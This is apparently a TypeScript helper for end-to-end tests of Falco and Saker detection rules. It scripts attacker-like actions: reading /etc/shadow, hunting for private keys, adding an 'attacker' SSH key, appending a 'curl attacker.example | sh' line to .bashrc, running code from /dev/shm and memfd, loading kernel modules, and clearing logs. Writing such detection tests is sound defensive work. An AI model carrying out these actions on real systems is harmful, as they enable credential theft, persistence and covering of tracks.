// The attacker's actions of the live end-to-end tests, written once: live.test.ts checks
// Falco's rules on them, default-rules.test.ts Saker's. Each runs to completion and returns
// what an alert must name (the paths it made or used).
import { spawnSync } from 'node:child_process'
import { copyFileSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { prog } from './helpers.js'

export function run(cmd: string, args: string[], input?: string): void {
  const r = spawnSync(cmd, args, { encoding: 'utf8', input })
  if (r.error) throw r.error
}

export function readShadow(): void {
  run('cat', ['/etc/shadow'])
}

export function searchPrivateKeys(): void {
  run('find', ['/', '-maxdepth', '3', '-name', 'id_rsa'])
}

/** `ln -s /etc/shadow <work>/shadow-sym`; returns the link. */
export function symlinkShadow(work: string): string {
  const link = join(work, 'shadow-sym')
  run('ln', ['-s', '/etc/shadow', link])
  return link
}

/** `ln /etc/shadow <work>/shadow-hard`; returns the link. */
export function hardlinkShadow(work: string): string {
  const link = join(work, 'shadow-hard')
  run('ln', ['/etc/shadow', link])
  return link
}

/** A copy of /bin/true run from /dev/shm (and removed); returns its path. */
export function runFromDevShm(name: string): string {
  const bin = `/dev/shm/${name}`
  copyFileSync('/bin/true', bin)
  try {
    run(bin, [])
  } finally {
    rmSync(bin, { force: true })
  }
  return bin
}

/** /bin/true copied into a memfd named saker-e2e and executed from it. */
export function execFromMemfd(): void {
  run(prog('memfd_exec'), ['/bin/true'])
}

/** PTRACE_ATTACH to a child of its own (the program is named ptrace_attach). */
export function ptraceAttach(): void {
  run(prog('ptrace_attach'), [])
}

/** `chmod u+s <work>/suid`; returns the file. */
export function setSetuidBit(work: string): string {
  const file = join(work, 'suid')
  writeFileSync(file, '')
  run('chmod', ['u+s', file])
  return file
}

/** `tee -a <home>/.ssh/authorized_keys` with a key; returns the file. */
export function appendAuthorizedKey(home: string): string {
  mkdirSync(join(home, '.ssh'), { recursive: true })
  const keys = join(home, '.ssh', 'authorized_keys')
  run('tee', ['-a', keys], 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2e2e2e2e2e attacker\n')
  return keys
}

/** `tee -a <home>/.bashrc` with a download-and-run line; returns the file. */
export function appendShellRc(home: string): string {
  const rc = join(home, '.bashrc')
  run('tee', ['-a', rc], 'curl -s http://attacker.example/x | sh\n')
  return rc
}

/**
 * init_module with junk (the kernel refuses it; the attempt is the event), from a cgroup laid
 * out as Docker lays out a container's (/docker/<64 hex>): the kernel-module rules want a
 * container. `tag` keeps concurrent callers' cgroups apart.
 */
export function loadKernelModuleInContainer(tag: string): void {
  const id = tag.padEnd(64, 'a')
  const cg = existsSync('/sys/fs/cgroup/pids') ? `/sys/fs/cgroup/pids/docker/${id}` : `/sys/fs/cgroup/docker/${id}`
  mkdirSync(cg, { recursive: true })
  try {
    run('sh', ['-c', `echo $$ > ${cg}/cgroup.procs && exec ${prog('init_module_junk')}`])
  } finally {
    spawnSync('rmdir', [cg])
  }
}

/** `sh -c 'echo entry >> LOG; : > LOG'` on /var/log/<name>.log (then removed); returns LOG. */
export function clearLog(name: string): string {
  const logFile = `/var/log/${name}.log`
  try {
    run('sh', ['-c', `echo entry >> ${logFile}; : > ${logFile}`])
  } finally {
    rmSync(logFile, { force: true })
  }
  return logFile
}
